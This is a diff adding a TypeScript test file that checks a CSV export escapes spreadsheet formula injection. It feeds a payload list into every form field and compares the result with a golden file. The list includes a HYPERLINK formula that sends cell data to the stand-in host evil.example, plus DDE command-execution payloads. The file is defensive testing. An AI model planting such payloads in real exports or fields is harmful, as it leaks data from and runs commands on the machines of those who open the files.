@@ -1,0 +1,60 @@
+/** An export opened in a spreadsheet computes nothing (ASVS 1.2.10). The property is with the inbox. */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { csvHeader, csvRecordOf } from '../../src/commands/inbox-formats.ts';
+import { forms } from '../../src/forms/catalog.ts';
+
+const payloads = [
+  '=HYPERLINK("https://evil.example?"&A1,"open")',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd|"x"!A0',
+  '@SUM(1,1)',
+  '\tstarts with a tab',
+  '\rstarts with a carriage return',
+  '\nstarts with a line feed',
+  '＝1＋1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  'has "quotes", commas\r\n=and(a line that begins so)',
+  "'=already prefixed",
+  'plain',
+];
+
+const names = [...new Set(Object.values(forms).flatMap(({ fields }) => fields))].map(
+  ({ name }) => name,
+);
+
+/** Every payload in every column that a stranger fills, a record each. */
+function everyRecord(of: readonly string[] = payloads): string {
+  return of
+    .map((payload) =>
+      csvRecordOf({
+        receivedAt: '2026-09-01T12:00:00.000Z',
+        event: {
+          type: 'lead.created',
+          timestamp: '2026-09-01T12:00:00.000Z',
+          data: {
+            id: 'id',
+            form: 'contact',
+            fields: Object.fromEntries(names.map((name) => [name, payload])),
+            recipient: { id: 'c-1', name: payload },
+            origin: 'agent',
+            client: payload,
+            consent_recorded_at: null,
+          },
+        },
+      }),
+    )
+    .join('');
+}
+
+test('formulas in CSV: the export of every prefix in every column is the golden file', () => {
+  const golden = readFileSync(join(import.meta.dirname, 'formulas.csv'), 'utf8');
+  expect(csvHeader + everyRecord()).toBe(golden);
+});
+
+test('formulas in CSV: NUL, which no value holds and no golden file should, is prefixed as well', () => {
+  expect(everyRecord(['\0=1'])).not.toMatch(/[,"]\0/);
+});
